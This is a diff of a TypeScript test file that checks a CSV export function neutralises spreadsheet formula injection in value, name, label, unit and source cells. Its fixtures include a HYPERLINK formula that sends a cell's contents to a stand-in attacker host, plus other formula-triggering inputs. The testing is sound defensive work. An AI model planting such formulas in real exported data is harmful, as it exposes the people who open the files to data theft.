@@ -1,7 +1,7 @@
 import { expect } from '@open-wc/testing';
 import { parseFeed } from '../../../src/data/parse.js';
 import { buildViewModel } from '../../../src/indicators/view-model.js';
-import { CSV_BOM, csvField, plainNumber, viewCsv, viewCsvBlob } from '../../../src/components/share/csv.js';
+import { CSV_BOM, csvField, defused, plainNumber, viewCsv, viewCsvBlob } from '../../../src/components/share/csv.js';
 import type { Lang } from '../../../src/data/types.js';
 
 /** A small feed with a status symbol, a qualifier, a hostile region name, a derived value and a SSB table. */
@@ -100,6 +100,42 @@ describe('share/csv', () => {
     expect(by['34']).to.include({ value: '0,000001', derived: 'true' });
     // The hostile name is quoted, its quotes doubled.
     expect(text).to.contain('"a;""b"""');
+  });
+
+  it('writes no cell a spreadsheet would evaluate, in any column: a status symbol in the value cell, names, labels, units, sources', () => {
+    const jsonstat = {
+      class: 'dataset',
+      label: '+SUM(1)',
+      source: '@evil',
+      id: ['Region', 'ContentsCode', 'Tid'],
+      size: [4, 1, 1],
+      role: { geo: ['Region'], metric: ['ContentsCode'], time: ['Tid'] },
+      dimension: {
+        Region: { category: { index: ['X1', 'X2', 'X3', 'X4'], label: { 'X1': '\n=1+1', 'X2': '\t=1+1', 'X3': '-x', 'X4': 'Gran' } } },
+        ContentsCode: { category: { index: ['m'], label: { m: '=measure()' }, unit: { m: { base: '@unit' } } } },
+        Tid: { category: { index: ['2021'] } },
+      },
+      value: [null, null, null, -3.5],
+      status: { '0': '=HYPERLINK("https://evil.example/?"&A2,"Klikk")', '1': '+A1', '2': '@A1' },
+    };
+    for (const lang of ['nb', 'en'] as const) {
+      const text = viewCsv(buildViewModel(parseFeed(jsonstat), { indicator: 'x', lang }), { noBom: true });
+      const delimiter = lang === 'en' ? ',' : ';';
+      const cells = rows(text, delimiter).slice(1).flat();
+      const live = cells.filter((c) => /^[=+\-@\t\r\n]/.test(c) && !/^-\d+(?:[.,]\d+)?$/.test(c) && c !== '-');
+      expect(live, lang).to.deep.equal([]);
+      const lines = table(text, delimiter);
+      expect(lines.find((l) => l.region_code === 'X1')).to.include({ value: `'=HYPERLINK("https://evil.example/?"&A2,"Klikk")`, region_name: "'=1+1" });
+      expect(lines.find((l) => l.region_code === 'X2')).to.include({ value: "'+A1", status: "'+A1", region_name: "'=1+1" });
+      expect(lines.find((l) => l.region_code === 'X3')).to.include({ value: "'@A1", region_name: "'-x" });
+      // Numbers stay numbers (a label's leading line break or tab is trimmed by the reader; defused() covers it too).
+      expect(lines.find((l) => l.region_code === 'X4')).to.include({ value: lang === 'en' ? '-3.5' : '-3,5', measure: "'=measure()", unit: "'@unit" });
+    }
+  });
+
+  it('defuses text starting with a line break, a tab or a carriage return, and leaves numbers and status symbols', () => {
+    for (const text of ['\n=1+1', '\t=1+1', '\r=1+1', '=1', '+1 2', '-x', '@A1']) expect(defused(text), JSON.stringify(text)).to.equal(`'${text}`);
+    for (const text of ['-3,25', '12.5', '..', ':', '-', 'Hamar', '']) expect(defused(text), text).to.equal(text);
   });
 
   it('writes , and a decimal point in English', () => {
